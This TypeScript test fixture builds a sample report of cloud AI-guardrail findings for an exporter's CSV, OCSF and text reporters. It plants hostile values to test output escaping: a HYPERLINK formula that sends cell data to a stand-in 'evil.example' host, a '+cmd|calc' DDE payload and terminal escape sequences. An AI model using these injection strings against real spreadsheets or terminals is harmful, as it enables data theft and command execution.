/**
 * A small report for the OCSF, CSV and text reporter tests: every finding status, every severity,
 * a live and an IaC finding, hostile cloud values, and two platforms in use that share the
 * estate-wide L5.multi-cloud criterion.
 */
import type { Report } from '../../src/report/build.ts';
import type { Finding } from '../../src/engine/evaluate.ts';
import type { CriterionResult, PlatformMaturity } from '../../src/maturity/infer.ts';
import { summarise } from '../../src/report/build.ts';
import { withFingerprints } from '../../src/report/fingerprint.ts';

/** A value anyone who can name a cloud resource could choose: a formula, a quote, a comma, a line break, a terminal escape. */
export const hostileName = '=HYPERLINK("http://evil.example/?q="&A1,"click"),\r\n\u001b[2Jforged';

function finding(overrides: Partial<Finding> & Pick<Finding, 'id' | 'ruleId' | 'status' | 'severity'>): Finding {
  return {
    title: `Title of ${overrides.ruleId}`,
    reason: 'test-reason',
    provider: 'aws',
    scope: { type: 'account', id: '111122223333' },
    region: 'us-east-1',
    resource: { id: `arn:aws:bedrock:us-east-1:111122223333:guardrail/${overrides.id}`, type: 'aws.bedrock.guardrail' },
    message: `message for ${overrides.id}`,
    remediation: 'Create a guardrail and publish a version.',
    references: ['https://docs.aws.amazon.com/bedrock/latest/userguide/guardrails-create.html'],
    source: { api: 'bedrock:ListGuardrails' },
    criteria: ['L2.controls', 'L3.coverage'],
    ...overrides,
  };
}

export const exportFindings: Finding[] = [
  finding({ id: 'f-pass', ruleId: 'aws/guardrail-present', status: 'pass', severity: 'high', reason: 'guardrail-ready' }),
  finding({
    id: 'f-fail',
    ruleId: 'aws/guardrail-content-filters',
    status: 'fail',
    severity: 'critical',
    resource: { id: 'arn:aws-cn:bedrock:cn-north-1:111122223333:guardrail/x', type: 'aws.bedrock.guardrail', name: hostileName },
    region: 'cn-north-1',
    message: `Guardrail ${hostileName} does not block HATE`,
    observed: { hate: 'LOW' },
    expected: { hate: 'MEDIUM' },
  }),
  finding({ id: 'f-unknown', ruleId: 'aws/invocation-logging', status: 'unknown', severity: 'medium', reason: 'read-denied', message: 'AccessDenied' }),
  finding({ id: 'f-na', ruleId: 'aws/agent-cmk', status: 'not_applicable', severity: 'low', reason: 'no-agents' }),
  finding({
    id: 'f-suppressed',
    ruleId: 'aws/guardrail-cmk',
    status: 'suppressed',
    severity: 'info',
    suppression: { reason: 'accepted risk until the KMS migration', expires: '2099-01-01' },
  }),
  finding({
    id: 'f-azure',
    ruleId: 'azure/local-auth-disabled',
    provider: 'azure',
    status: 'fail',
    severity: 'medium',
    scope: { type: 'subscription', id: '00000000-0000-0000-0000-000000000001' },
    region: 'eastus',
    resource: {
      id: '/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg/providers/Microsoft.CognitiveServices/accounts/a',
      type: 'azure.cognitive-account',
      name: '+cmd|calc',
    },
    message: 'x'.repeat(260),
  }),
  finding({
    id: 'f-iac',
    ruleId: 'gcp/template-filters',
    provider: 'gcp',
    status: 'fail',
    severity: 'low',
    scope: { type: 'iac', id: 'infra' },
    region: null,
    resource: { id: 'google_model_armor_template.t', type: 'gcp.modelarmor.template', name: '-1+1' },
    source: { file: 'infra/main.tf', line: 12, address: 'google_model_armor_template.t' },
    message: '@SUM(A1:A9)',
    references: [],
    criteria: [],
  }),
  finding({
    id: 'f-estate',
    ruleId: 'multi/consistent-baseline',
    status: 'fail',
    severity: 'medium',
    scope: { type: 'organization', id: 'estate' },
    region: null,
    resource: { id: 'multi/consistent-baseline', type: 'multi.estate', name: 'estate' },
    source: { api: 'multi/consistent-baseline (derived from the collected controls)' },
  }),
];

export const longEvidence = `Not every platform in use meets the baseline — ${'hate: azure output is low, below medium; '.repeat(8)}`;

function criteria(multiCloudSummary: string): CriterionResult[] {
  return [
    { id: 'L2.controls', level: 2, title: 'Controls', status: 'met', summary: 'Guardrails: 2 passing.', findings: [] },
    { id: 'L3.coverage', level: 3, title: 'Coverage', status: 'unmet', summary: `3 checks fail \u001b[2J${hostileName}`, findings: [] },
    { id: 'L5.multi-cloud', level: 5, title: 'Multi-cloud', status: 'unmet', summary: multiCloudSummary, findings: [] },
  ];
}

function platform(provider: string, multiCloudSummary: string): PlatformMaturity {
  return {
    provider,
    inUse: true,
    usage: 'used',
    level: 2,
    target: null,
    criteria: criteria(multiCloudSummary),
    nextLevel: { level: 3, blockers: ['L3.coverage'] },
  };
}

/** The report; `multiCloud: 'different'` gives each platform its own L5.multi-cloud summary. */
export function exportReport(options: { multiCloud?: 'shared' | 'different' } = {}): Report {
  const different = options.multiCloud === 'different';
  return {
    schemaVersion: 1,
    tool: { name: 'aiposture', version: '9.9.9' },
    scan: {
      mode: 'live',
      startedAt: '2026-11-30T10:00:00.000Z',
      finishedAt: '2026-11-30T10:05:00.000Z',
      providers: ['aws', 'azure', 'gcp'],
      scopes: [{ provider: 'aws', type: 'account', id: '111122223333' }],
    },
    maturity: {
      overall: { level: 2, target: null },
      platforms: [
        platform('aws', different ? 'aws alone meets the baseline' : longEvidence),
        platform('azure', different ? 'azure alone misses the baseline' : longEvidence),
        { provider: 'gcp', inUse: false, usage: 'unused', level: null, target: null, criteria: [], nextLevel: null },
      ],
    },
    findings: withFingerprints(exportFindings, new Set(['azure'])),
    coverage: [
      {
        provider: 'aws',
        scope: { type: 'account', id: '111122223333' },
        region: 'us-east-1',
        collector: 'bedrock',
        resourceType: 'x',
        status: 'denied',
        message: 'AccessDenied',
      },
    ],
    summary: summarise(exportFindings),
    policy: { file: null, sha256: null, expiredExceptions: [] },
  };
}
